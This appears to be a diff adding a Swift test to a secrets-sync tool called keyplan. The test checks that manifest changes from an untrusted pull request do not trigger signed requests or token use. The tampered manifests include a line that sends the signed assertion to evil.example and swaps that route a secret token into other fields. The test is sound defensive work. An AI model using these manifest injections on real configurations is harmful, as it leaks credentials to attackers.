@@ -201,6 +201,75 @@ import Testing
     #expect(try !project.requests().contains("api/v4"))
   }
 
+  @Test func `is not signed for by a description that a pull request changed`() throws {
+    func manifest(_ address: String) -> String {
+      """
+      version: 1
+      backends:
+        depot:
+          summary: A depot of keys
+          connection:
+            address: { type: url, required: true }
+            token: { type: secret }
+            account: { type: secret }
+          target: { project: { type: name, required: true } }
+          base: "{address}/api/v4/projects/{project}/variables"
+          auth:
+            - members: { account: { email: /client_email, privateKey: /private_key } }
+              sign: { kind: rs256, key: "{privateKey}", claims: { iss: "{email}", aud: depot } }
+              header: { private-token: "{token}", x-assertion: "{assertion}" }
+          names: { pattern: "[A-Z_0-9]{1,255}" }
+          list:
+            get: ""
+            pages: { header: x-next-page, query: page }
+            entries: { each: "", where: { /environment_scope: "*" }, name: /key, value: /value }
+          create: { post: "", json: { key: "{name}", value: "{value}", environment_scope: "*", raw: true } }
+          update: { put: "/{name}", query: { "filter[environment_scope]": "*" }, json: { value: "{value}", raw: true } }
+      connections:
+        shop: { type: depot, address: "\(address)", token: env://FAKE_TOKEN, account: env://ACCOUNT }
+      keys:
+        claude: { provider: generic, variable: CLAUDE, source: env://CLAUDE_VALUE }
+      targets:
+        ci: { type: depot, connection: shop, project: acme/app, keys: { KP_CLAUDE: claude } }
+      """
+    }
+    let project = try FakeServicesProject(manifest)
+    let sandbox = project.sandbox
+    sandbox.variables["CLAUDE_VALUE"] = Self.value
+    let key = try sandbox.start(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"]).wait()
+    try #require(key.code == 0, "\(key.err)")
+    let account = ["client_email": "ci@example", "private_key": key.out]
+    sandbox.variables["ACCOUNT"] = String(decoding: try JSONEncoder().encode(account), as: UTF8.self)
+    let applied = try sandbox.keyplan("apply", "--yes")
+    #expect(applied.code == 0, "\(applied.out)\(applied.err)")
+    #expect(try project.send("GET", Self.variables).contains(Self.value))
+    #expect(try sandbox.keyplan("drift").code == 0)
+    // The job of a pull request.
+    sandbox.variables["KEYPLAN_CHECKOUT"] = "untrusted"
+    let text = manifest(project.address)
+    let login = "login: [{ base: https://evil.example, post: /t, form: { a: \"{assertion}\" }, yields: { t: /t } }]"
+    let aws = "kind: sigv4, service: ssm, region: eu, accessKeyId: a, secretAccessKey: \"{token}\" }"
+    for (old, new) in [
+      ("aud: depot", "aud: elsewhere"), ("iss: \"{email}\"", "iss: \"{email}\", sub: admin"),
+      ("members: { account:", "\(login)\n        members: { account:"),
+      ("privateKey: /private_key }", "privateKey: /another }"),
+      ("address: \"\(project.address)\"", "address: \"\(project.address)/elsewhere\""),
+      ("account: env://ACCOUNT", "account: env://CLAUDE_VALUE"),
+      (
+        "kind: rs256, key: \"{privateKey}\", claims: { iss: \"{email}\", aud: depot } }\n"
+          + "        header: { private-token: \"{token}\", x-assertion: \"{assertion}\" }", aws
+      ),
+    ] {
+      let changed = text.replacing(old, with: new)
+      try #require(changed != text, "\(old)")
+      try sandbox.write(changed, to: "keyplan.yaml")
+      _ = try project.requests()
+      let plan = try sandbox.keyplan("plan")
+      #expect(plan.out.contains("may contact"), "\(new): \(plan.out)\(plan.err)")
+      #expect(try !project.requests().contains("api/v4"), "\(new)")
+    }
+  }
+
   @Test func `is withdrawn everywhere by destroy, and written again by the next apply`() throws {
     let project = try project()
     let sandbox = project.sandbox
